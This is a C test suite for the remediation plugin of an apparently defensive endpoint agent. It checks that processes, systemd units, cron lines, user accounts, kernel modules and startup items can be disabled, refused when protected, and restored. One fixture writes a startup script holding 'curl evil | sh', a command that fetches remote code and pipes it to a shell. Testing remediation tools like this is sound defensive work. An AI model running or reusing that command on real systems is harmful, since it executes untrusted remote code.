/* Remediation of processes, units, lines of cron, users, modules and start-up items. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "remediate_bed.h"
#include "suite.h"

enum { PARAMS = 512 };

/* ---- processes ---- */

START_TEST(a_process_is_suspended_resumed_and_ended)
{
  bed b;
  char params[PARAMS];
  bed_open(&b);
  pid_t victim = bed_spawn(NULL, 0);
  uint64_t start = bed_start_of(victim);
  bed_target(victim, start, "process.suspend", params, sizeof(params));
  ck_assert_int_eq(bed_run(&b, "p1", params), CORDON_OK);
  ck_assert(bed_comes_to(victim, 'T'));
  ck_assert_int_eq(bed_run(&b, "p2", params), CORDON_OK);
  ck_assert(bed_has_step(&b, "suspend", "already"));
  for (int i = 0; i < 2; i++) {
    ck_assert_int_eq(bed_undo(&b, "p1"), CORDON_OK);
    ck_assert_int_ne(bed_state_of(victim), 'T');
  }
  bed_target(victim, start, "process.resume", params, sizeof(params));
  ck_assert_int_eq(bed_run(&b, "p3", params), CORDON_OK);
  ck_assert(bed_has_step(&b, "resume", "already"));
  bed_target(victim, start, "process.stop", params, sizeof(params));
  ck_assert_int_eq(bed_dry(&b, "p4", params), CORDON_OK);
  ck_assert(bed_comes_to(victim, 'S'));
  ck_assert_int_eq(bed_run(&b, "p4", params), CORDON_OK);
  ck_assert_ptr_nonnull(strstr(bed_undo_text(&b), "none because"));
  ck_assert(bed_state_of(victim) == '-' || bed_state_of(victim) == 'Z');
  ck_assert_int_eq(bed_run(&b, "p5", params), CORDON_OK);
  bed_target(victim, start, "process.suspend", params, sizeof(params));
  ck_assert_int_ne(bed_run(&b, "p6", params), CORDON_OK);
  bed_close(&b);
}
END_TEST

START_TEST(a_number_that_is_anothers_by_now_is_left_alone)
{
  static const char *const operations[] = {"process.stop", "process.suspend", "process.resume"};
  bed b;
  char params[PARAMS];
  bed_open(&b);
  pid_t first = bed_spawn(NULL, 0);
  uint64_t start = bed_start_of(first);
  bed_end(first);
  /* The clock of starts ticks a hundred times a second. */
  (void)usleep(30000);
  pid_t second = bed_spawn(NULL, first);
  ck_assert_int_eq(second, first);
  ck_assert(bed_start_of(second) != start);
  bed_target(first, start, operations[_i], params, sizeof(params));
  cordon_status status = bed_run(&b, "p1", params);
  ck_assert_int_eq(status, _i == 0 ? CORDON_OK : CORDON_E_NOTFOUND);
  ck_assert_ptr_nonnull(strstr(bed_measured(&b, "process"), "left alone"));
  ck_assert(bed_comes_to(second, 'S'));
  bed_end(second);
  bed_close(&b);
}
END_TEST

START_TEST(a_start_that_nobody_of_that_number_can_have_had_is_a_slip)
{
  bed b;
  char params[PARAMS];
  bed_open(&b);
  pid_t victim = bed_spawn(NULL, 0);
  bed_target(victim, bed_start_of(victim) + 1, "process.stop", params, sizeof(params));
  ck_assert_int_eq(bed_run(&b, "p1", params), CORDON_E_NOTFOUND);
  ck_assert(bed_comes_to(victim, 'S'));
  bed_end(victim);
  bed_close(&b);
}
END_TEST

START_TEST(a_suspension_whose_process_is_gone_has_nothing_to_undo)
{
  bed b;
  char params[PARAMS];
  bed_open(&b);
  pid_t first = bed_spawn(NULL, 0);
  bed_target(first, bed_start_of(first), "process.suspend", params, sizeof(params));
  ck_assert_int_eq(bed_run(&b, "p1", params), CORDON_OK);
  bed_end(first);
  (void)usleep(30000);
  pid_t second = bed_spawn(NULL, first);
  ck_assert(kill(second, SIGSTOP) == 0);
  ck_assert(bed_comes_to(second, 'T'));
  ck_assert_int_eq(bed_undo(&b, "p1"), CORDON_OK);
  ck_assert(bed_comes_to(second, 'T'));
  bed_end(second);
  bed_close(&b);
}
END_TEST

START_TEST(the_first_process_the_kernels_and_the_agents_own_are_left_alone)
{
  bed b;
  char params[PARAMS];
  bed_open(&b);
  pid_t agents = fork();
  if (agents == 0) {
    (void)prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (;;)
      (void)pause();
  }
  const pid_t left[] = {1, 2, getpid(), getppid(), agents};
  for (size_t i = 0; i < COUNT_OF(left); i++) {
    /* In a container number 2 may be anything. */
    if (left[i] == 2)
      continue;
    bed_target(left[i], bed_start_of(left[i]), "process.stop", params, sizeof(params));
    ck_assert_int_eq(bed_run(&b, "p1", params), CORDON_E_DENIED);
  }
  ck_assert(kill(agents, 0) == 0);
  (void)kill(agents, SIGKILL);
  ck_assert_int_eq(
      bed_run(&b, "p2",
              "{\"operation\":\"process.stop\",\"target\":{\"pid\":5,\"start\":1,\"boot\":\"x\"}}"),
      CORDON_E_NOTFOUND);
  ck_assert_int_eq(
      bed_run(
          &b, "p3",
          "{\"operation\":\"process.stop\",\"target\":{\"pid\":-5,\"start\":1,\"boot\":\"x\"}}"),
      CORDON_E_INVALID);
  bed_close(&b);
}
END_TEST

/* ---- what is changed in files, and comes back as it was ---- */

typedef struct reversible {
  const char *off;
  const char *on;      /* NULL: only undo brings it back */
  const char *changed; /* a file that holds `has` then */
  const char *has;
  const char *sentence; /* of the outcome: unused if NULL */
} reversible;

#define SERVICE(verb, name) "{\"operation\":\"" verb "\",\"target\":{\"name\":\"" name "\"}}"
#define CRON(verb, file, line, text)                                                               \
  "{\"operation\":\"" verb "\",\"target\":{\"file\":\"" file "\",\"line\":" line                   \
  ",\"text\":\"" text "\"}}"

static const reversible reversibles[] = {
    {SERVICE("service.disable", "evil"), SERVICE("service.enable", "evil"),
     "/etc/systemd/system/evil.service.d/~~cordon-disabled.conf", "ConditionPathExists=!/", NULL},
    {SERVICE("timer.disable", "evil.timer"), SERVICE("timer.enable", "evil"),
     "/etc/systemd/system/evil.timer.d/~~cordon-disabled.conf", "ConditionPathExists=!/", NULL},
    {CRON("cron.disable", "/etc/crontab", "2", "* * * * * root /srv/evil"),
     CRON("cron.enable", "/etc/crontab", "2", "* * * * * root /srv/evil"), "/etc/crontab",
     "# x\n#cordon-off# * * * * * root /srv/evil\n17 * * * * root true\n", NULL},
    {CRON("cron.disable", "/etc/cron.d/twice", "3", "* * * * * root a"), NULL, "/etc/cron.d/twice",
     "* * * * * root a\n* * * * * root b\n#cordon-off# * * * * * root a\n", NULL},
    {SERVICE("user.disable", "bob"), SERVICE("user.enable", "bob"), "/etc/shadow",
     "bob:!$6$other$hash:19000:0:99999:7::1:\n", NULL},
    {"{\"operation\":\"module.disable\",\"force\":true,\"target\":{\"name\":\"no-such-module\"}}",
     SERVICE("module.enable", "no_such_module"),
     "/etc/modprobe.d/cordon-disabled-no_such_module.conf", "install no_such_module /bin/false",
     NULL},
};

START_TEST(what_is_switched_off_comes_back_as_it_was)
{
  const reversible *r = &reversibles[_i];
  bed b;
  bed_open(&b);
  char *before = bed_snapshot("/etc", false);
  ck_assert_int_eq(bed_dry(&b, "r0", r->off), CORDON_OK);
  char *dry = bed_snapshot("/etc", false);
  /* The lock of the list of users is left behind, as passwd leaves it. */
  if (!bed_exists("/etc/.pwd.lock"))
    ck_assert_str_eq(dry, before);
  for (int i = 0; i < 2; i++) {
    ck_assert_int_eq(bed_run(&b, i == 0 ? "r1" : "r2", r->off), CORDON_OK);
    char *text = bed_read(r->changed);
    ck_assert_ptr_nonnull(text);
    ck_assert_ptr_nonnull(strstr(text, r->has));
    free(text);
  }
  free(before);
  before = dry;
  for (int i = 0; i < 2; i++) {
    ck_assert_int_eq(bed_undo(&b, "r1"), CORDON_OK);
    char *after = bed_snapshot("/etc", false);
    ck_assert_str_eq(after, before);
    free(after);
  }
  if (r->on != NULL) {
    ck_assert_int_eq(bed_run(&b, "r3", r->off), CORDON_OK);
    ck_assert_int_eq(bed_run(&b, "r4", r->on), CORDON_OK);
    ck_assert_int_eq(bed_run(&b, "r5", r->on), CORDON_OK);
    char *after = bed_snapshot("/etc", false);
    ck_assert_str_eq(after, before);
    free(after);
  }
  free(before);
  bed_close(&b);
}
END_TEST

START_TEST(the_links_of_a_unit_are_gone_while_it_is_off)
{
  bed b;
  bed_open(&b);
  ck_assert_int_eq(bed_run(&b, "u1", SERVICE("service.disable", "evil.service")), CORDON_OK);
  ck_assert(!bed_exists("/etc/systemd/system/multi-user.target.wants/evil.service"));
  ck_assert(!bed_exists("/etc/systemd/system/alias.service"));
  ck_assert(bed_exists("/etc/systemd/system/evil.service"));
  ck_assert(bed_has_step(&b, "stop", "left"));
  bed_close(&b);
}
END_TEST

/* Without systemd nobody can be asked: the other drop-ins are looked at. */
START_TEST(a_later_drop_in_that_takes_the_condition_back_is_named)
{
  static const struct {
    const char *folder;
    const char *name;
    const char *text;
    bool voids;
  } others[] = {
      {"/etc/systemd/system/evil.service.d", "zz.conf", "[Unit]\nConditionUser=\n", false},
      {"/etc/systemd/system/evil.service.d", "~~~.conf", "[Unit]\nConditionUser=root\n", false},
      {"/etc/systemd/system/evil.service.d", "~~~.conf", "[Unit]\n ConditionUser =  \n", true},
      {"/etc/systemd/system/service.d", "\xc3\xa9.conf", "[Unit]\nConditionHost=", true},
      {"/run/systemd/transient/evil.service.d", "~~cordon-disabled.conf", "[Unit]\n", true},
  };
  bed b;
  char path[256];
  bed_open(&b);
  (void)mkdir("/run/systemd", 0755);
  (void)mkdir("/run/systemd/transient", 0755);
  ck_assert(mkdir(others[_i].folder, 0755) == 0);
  (void)snprintf(path, sizeof(path), "%s/%s", others[_i].folder, others[_i].name);
  bed_write(path, others[_i].text, 0644);
  ck_assert_int_eq(bed_run(&b, "u1", SERVICE("service.disable", "evil")),
                   others[_i].voids ? CORDON_E_UNVERIFIED : CORDON_OK);
  ck_assert(!others[_i].voids || strstr(b.sentence, "is taken back by") != NULL);
  ck_assert_int_eq(bed_undo(&b, "u1"), CORDON_OK);
  ck_assert(bed_exists(path));
  bed_close(&b);
}
END_TEST

START_TEST(what_an_older_version_switched_off_stays_off_and_comes_back)
{
  static const char old[] = "/etc/systemd/system/evil.service.d/00-cordon-disabled.conf";
  static const char now[] = "/etc/systemd/system/evil.service.d/~~cordon-disabled.conf";
  bed b;
  bed_open(&b);
  char *before = bed_snapshot("/etc", false);
  for (int i = 0; i < 2; i++) {
    ck_assert_int_eq(bed_run(&b, "u1", SERVICE("service.disable", "evil")), CORDON_OK);
    ck_assert(rename(now, old) == 0);
    if (i == 1)
      ck_assert_int_eq(bed_run(&b, "u2", SERVICE("service.disable", "evil")), CORDON_OK);
    ck_assert(bed_exists(i == 1 ? now : old) && !bed_exists(i == 1 ? old : now));
    ck_assert_int_eq(bed_undo(&b, "u1"), CORDON_OK);
    char *after = bed_snapshot("/etc", false);
    ck_assert_str_eq(after, before);
    free(after);
  }
  free(before);
  bed_close(&b);
}
END_TEST

/* Nobody is left alone for a name. */
START_TEST(a_name_like_the_agents_is_no_shelter)
{
  bed b;
  bed_open(&b);
  bed_write("/etc/systemd/system/cordon-evil.service", "[Service]\nExecStart=/srv/evil\n", 0644);
  ck_assert_int_eq(bed_run(&b, "u1", SERVICE("service.disable", "cordon-evil")), CORDON_OK);
  bed_close(&b);
}
END_TEST

START_TEST(what_is_the_agents_stays_with_force_and_by_any_name)
{
  static const char *const orders[] = {
      "{\"operation\":\"service.disable\",\"force\":true,\"target\":{\"name\":\"cordond\"}}",
      "{\"operation\":\"service.disable\",\"force\":true,\"target\":{\"name\":\"harmless\"}}",
      "{\"operation\":\"startup.remove\",\"force\":true,\"target\":{\"path\":"
      "\"/etc/systemd/system/cordond.service\"}}",
      "{\"operation\":\"file.quarantine\",\"force\":true,\"target\":{\"path\":"
      "\"/etc/cordon/cordond.json\"}}",
      "{\"operation\":\"file.quarantine\",\"force\":true,\"target\":{\"path\":"
      "\"/srv/other/plugins.trust.json\"}}",
      "{\"operation\":\"file.quarantine\",\"force\":true,\"target\":{\"path\":"
      "\"/srv/agent/journal.db\"}}",
  };
  bed b;
  bed_open(&b);
  bed_write("/etc/systemd/system/cordond.service", "[Unit]\n", 0644);
  ck_assert(symlink("cordond.service", "/etc/systemd/system/harmless.service") == 0);
  ck_assert(mkdir("/etc/cordon", 0755) == 0 && mkdir("/srv/other", 0755) == 0);
  bed_write("/etc/cordon/cordond.json", "{}", 0644);
  bed_write("/etc/cordon/plugins.trust.json", "{}", 0644);
  bed_write("/srv/agent/journal.db", "x", 0600);
  ck_assert(mount("/etc/cordon", "/srv/other", NULL, MS_BIND, NULL) == 0);
  char *before = bed_snapshot("/etc", false);
  ck_assert_int_eq(bed_run(&b, "u1", orders[_i]), CORDON_E_DENIED);
  ck_assert_ptr_nonnull(strstr(b.sentence, "agent's own"));
  char *after = bed_snapshot("/etc", false);
  ck_assert_str_eq(after, before);
  ck_assert(bed_exists("/srv/agent/journal.db"));
  free(before);
  free(after);
  bed_close(&b);
}
END_TEST

/* Whoever edits the same file keeps what they wrote, whenever they wrote it. */
START_TEST(what_somebody_else_writes_meanwhile_is_kept)
{
  static const char *const points[] = {"remediate.text", "remediate.looked"};
  static const char theirs[] = "* * * * * root theirs\n";
  pid_t child = bed_stopped_at(
      points[_i / 2], "c1", CRON("cron.disable", "/etc/crontab", "2", "* * * * * root /srv/evil"));
  if (_i % 2 == 0)
    bed_write("/etc/crontab", theirs, 0644); /* in its place */
  bed_write("/etc/crontab.new", theirs, 0600);
  if (_i % 2 == 1)
    ck_assert(rename("/etc/crontab.new", "/etc/crontab") == 0);
  ck_assert_int_eq(bed_goes_on(child), CORDON_E_CONFLICT);
  char *text = bed_read("/etc/crontab");
  ck_assert_str_eq(text, theirs);
  ck_assert(!bed_exists("/etc/.cordon-new-crontab"));
  free(text);
}
END_TEST

/* A container whose description cannot be read again would be a file that is lost. */
START_TEST(a_file_that_cannot_be_described_is_left)
{
  bed b;
  char name[32];
  static char value[60000];
  bed_open(&b);
  bed_write("/srv/data/much", "much\n", 0644);
  memset(value, 'x', sizeof(value));
  for (int i = 0; i < 20; i++) {
    (void)snprintf(name, sizeof(name), "user.n%d", i);
    ck_assert(setxattr("/srv/data/much", name, value, sizeof(value), 0) == 0);
  }
  ck_assert_int_eq(bed_run(&b, "m1",
                           "{\"operation\":\"file.quarantine\",\"target\":{\"path\":"
                           "\"/srv/data/much\"}}"),
                   CORDON_E_LIMIT);
  ck_assert_ptr_nonnull(strstr(b.sentence, "more attributes"));
  ck_assert(bed_exists("/srv/data/much"));
  ck_assert_int_eq(bed_containers(), 0);
  bed_close(&b);
}
END_TEST

/* Which modules are there is made up: no test may unload what the machine needs. On a kernel
 * without modules there is nothing to lay that over, and only what is kept out is shown. */
static void modules_are(const char *text)
{
  bed_write("/srv/modules", text, 0444);
  if (bed_exists("/proc/modules"))
    ck_assert(mount("/srv/modules", "/proc/modules", NULL, MS_BIND, NULL) == 0);
}

START_TEST(a_module_that_stays_loaded_is_said_to_be)
{
  static const struct {
    const char *loaded;
    const char *unload; /* the outcome of that step */
  } cases[] = {
      {"other 1 0 - Live 0x0\ncordon_lab_none 16384 2 other,more, Live 0x0\n", "left"},
      {"cordon_lab_none 16384 0 - Live 0x0\n", "failed"}, /* the kernel has none of the name */
  };
  bool any = bed_exists("/proc/modules");
  bed b;
  bed_open(&b);
  modules_are(cases[_i].loaded);
  ck_assert_int_eq(bed_run(&b, "m1",
                           "{\"operation\":\"module.disable\",\"force\":true,"
                           "\"target\":{\"name\":\"cordon-lab-none\"}}"),
                   any ? CORDON_REBOOT : CORDON_OK);
  ck_assert_int_eq(bed_has_step(&b, "unload", cases[_i].unload), any);
  ck_assert_ptr_nonnull(strstr(bed_measured(&b, "module"), any ? "still loaded" : "not loaded"));
  ck_assert(bed_exists("/etc/modprobe.d/cordon-disabled-cordon_lab_none.conf"));
  ck_assert_int_eq(bed_undo(&b, "m1"), CORDON_OK);
  ck_assert(!bed_exists("/etc/modprobe.d/cordon-disabled-cordon_lab_none.conf"));
  bed_close(&b);
}
END_TEST

/* ---- what is refused ---- */

static const struct {
  const char *params;
  cordon_status status;
  const char *says;
} refused[] = {
    {SERVICE("service.disable", "none"), CORDON_E_NOTFOUND, "no unit none.service"},
    {SERVICE("service.disable", "cordond"), CORDON_E_DENIED, "agent's own"},
    {SERVICE("service.disable", "systemd-journald"), CORDON_E_DENIED, "force"},
    {SERVICE("service.disable", "evil.timer"), CORDON_E_INVALID, "no name"},
    {SERVICE("service.disable", "../evil.service"), CORDON_E_INVALID, "no name"},
    {SERVICE("user.disable", "root"), CORDON_E_DENIED, "root"},
    {SERVICE("user.disable", "alice"), CORDON_E_DENIED, "last administrator"},
    {SERVICE("user.disable", "nobody-here"), CORDON_E_NOTFOUND, "no user"},
    {SERVICE("user.disable", "a:b"), CORDON_E_INVALID, "no name"},
    {SERVICE("module.disable", "no_such_module"), CORDON_E_NOTFOUND, "no module"},
    {SERVICE("module.disable", "../x"), CORDON_E_INVALID, "no name"},
    {CRON("cron.disable", "/etc/passwd", "1", "x"), CORDON_E_INVALID, "no file of cron"},
    {CRON("cron.disable", "/etc/crontab", "1", "not there"), CORDON_E_NOTFOUND, "no such line"},
    {CRON("cron.disable", "/etc/cron.d/twice", "9", "* * * * * root a"), CORDON_E_CONFLICT,
     "more than once"},
    /* as another system has them */
    {SERVICE("task.disable", "\\\\Evil\\\\one"), CORDON_E_UNSUPPORTED,
     "no operation 'task.disable'"},
    {"{\"operation\":\"process.stop\",\"target\":{\"pid\":5,\"start\":\"133700000000000000\"}}",
     CORDON_E_INVALID, "boot"},
    {"{\"operation\":\"startup.remove\",\"target\":{\"path\":\"HKLM\\\\SOFTWARE\\\\Run\",\"name\":"
     "\"x\"}}",
     CORDON_E_INVALID, "no place"},
    {"{\"operation\":\"startup.remove\",\"target\":{\"path\":\"/srv/data/x\"}}", CORDON_E_INVALID,
     "no place"},
    {"{\"operation\":\"startup.restore\",\"target\":{\"path\":\"/etc/profile.d/x.sh\"}}",
     CORDON_E_NOTFOUND, "nothing"},
    {"{\"operation\":\"file.find_quarantine\",\"target\":{\"sha1\":\"x\"}}", CORDON_E_INVALID,
     "sha1"},
};

START_TEST(what_must_not_or_cannot_be_is_refused_and_left)
{
  bed b;
  bed_open(&b);
  bed_write("/etc/systemd/system/systemd-journald.service", "[Unit]\n", 0644);
  bed_write("/etc/systemd/system/cordond.service", "[Unit]\n", 0644);
  bed_write("/etc/.pwd.lock", "", 0600);
  char *before = bed_snapshot("/etc", false);
  ck_assert_int_eq(bed_run(&b, "x1", refused[_i].params), refused[_i].status);
  ck_assert_msg(strstr(b.sentence, refused[_i].says) != NULL, "%s", b.sentence);
  char *after = bed_snapshot("/etc", false);
  ck_assert_str_eq(after, before);
  ck_assert_int_eq(b.notes, 0);
  free(before);
  free(after);
  bed_close(&b);
}
END_TEST

START_TEST(the_last_administrator_goes_with_force_and_comes_back)
{
  bed b;
  bed_open(&b);
  bed_write("/etc/.pwd.lock", "", 0600);
  char *before = bed_snapshot("/etc", false);
  ck_assert_int_eq(
      bed_run(&b, "f1",
              "{\"operation\":\"user.disable\",\"force\":true,\"target\":{\"name\":\"alice\"}}"),
      CORDON_OK);
  ck_assert_int_eq(bed_undo(&b, "f1"), CORDON_OK);
  char *after = bed_snapshot("/etc", false);
  ck_assert_str_eq(after, before);
  free(before);
  free(after);
  bed_close(&b);
}
END_TEST

START_TEST(no_systemd_is_said)
{
  bed b;
  bed_open(&b);
  ck_assert(rename("/etc/systemd", "/etc/elsewhere") == 0);
  ck_assert_int_eq(bed_run(&b, "n1", SERVICE("service.disable", "evil")), CORDON_E_UNSUPPORTED);
  ck_assert_ptr_nonnull(strstr(b.sentence, "no systemd"));
  bed_close(&b);
}
END_TEST

START_TEST(a_startup_item_is_taken_and_given_back_by_path)
{
  static const char remove[] =
      "{\"operation\":\"startup.remove\",\"target\":{\"path\":\"/etc/profile.d/evil.sh\"}}";
  static const char restore[] =
      "{\"operation\":\"startup.restore\",\"target\":{\"path\":\"/etc/profile.d/evil.sh\"}}";
  bed b;
  bed_open(&b);
  bed_write("/etc/profile.d/evil.sh", "curl evil | sh\n", 0644);
  char *before = bed_snapshot("/etc", true);
  ck_assert_int_eq(bed_run(&b, "s1", remove), CORDON_OK);
  ck_assert(!bed_exists("/etc/profile.d/evil.sh"));
  ck_assert_int_eq(bed_run(&b, "s2", restore), CORDON_OK);
  char *after = bed_snapshot("/etc", true);
  ck_assert_str_eq(after, before);
  ck_assert_int_eq(bed_undo(&b, "s1"), CORDON_OK);
  free(before);
  free(after);
  bed_close(&b);
}
END_TEST

/* ---- records of other versions ---- */

START_TEST(a_record_of_another_version_is_refused_with_a_sentence)
{
  static const char *const records[] = {
      "{\"v\":2,\"action\":\"o1\",\"do\":\"file.restore\",\"container\":\"x\"}\n",
      "{\"v\":1,\"action\":\"o1\",\"do\":\"something.new\"}\n",
      "{\"action\":\"o1\"}\n",
      "[]\n",
  };
  bed b;
  bed_open(&b);
  bed_write("/srv/undo/o1", records[_i], 0600);
  ck_assert_int_lt(bed_undo(&b, "o1"), 0);
  ck_assert_ptr_nonnull(strstr(b.sentence, "undo record"));
  bed_close(&b);
}
END_TEST

int main(void)
{
  Suite *suite = suite_create("plugins.remediate_system");
  TCase *c = tcase_create("facts");
  if (geteuid() != 0) {
    printf("skipped, since only root can mount\n");
    return SKIPPED;
  }
  tcase_set_timeout(c, CASE_TIMEOUT_S);
  tcase_add_checked_fixture(c, bed_mounts, NULL);
  tcase_add_test(c, a_process_is_suspended_resumed_and_ended);
  tcase_add_loop_test(c, a_number_that_is_anothers_by_now_is_left_alone, 0, 3);
  tcase_add_test(c, a_start_that_nobody_of_that_number_can_have_had_is_a_slip);
  tcase_add_test(c, a_suspension_whose_process_is_gone_has_nothing_to_undo);
  tcase_add_test(c, the_first_process_the_kernels_and_the_agents_own_are_left_alone);
  tcase_add_loop_test(c, what_is_switched_off_comes_back_as_it_was, 0, COUNT_OF(reversibles));
  tcase_add_test(c, the_links_of_a_unit_are_gone_while_it_is_off);
  tcase_add_loop_test(c, a_later_drop_in_that_takes_the_condition_back_is_named, 0, 5);
  tcase_add_test(c, what_an_older_version_switched_off_stays_off_and_comes_back);
  tcase_add_test(c, a_name_like_the_agents_is_no_shelter);
  tcase_add_loop_test(c, what_is_the_agents_stays_with_force_and_by_any_name, 0, 6);
  tcase_add_loop_test(c, what_somebody_else_writes_meanwhile_is_kept, 0, 4);
  tcase_add_test(c, a_file_that_cannot_be_described_is_left);
  tcase_add_loop_test(c, a_module_that_stays_loaded_is_said_to_be, 0, 2);
  tcase_add_loop_test(c, what_must_not_or_cannot_be_is_refused_and_left, 0, COUNT_OF(refused));
  tcase_add_test(c, the_last_administrator_goes_with_force_and_comes_back);
  tcase_add_test(c, no_systemd_is_said);
  tcase_add_test(c, a_startup_item_is_taken_and_given_back_by_path);
  tcase_add_loop_test(c, a_record_of_another_version_is_refused_with_a_sentence, 0, 4);
  suite_add_tcase(suite, c);
  SRunner *runner = srunner_create(suite);
  srunner_run_all(runner, CK_ENV);
  int failed = srunner_ntests_failed(runner);
  srunner_free(runner);
  return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
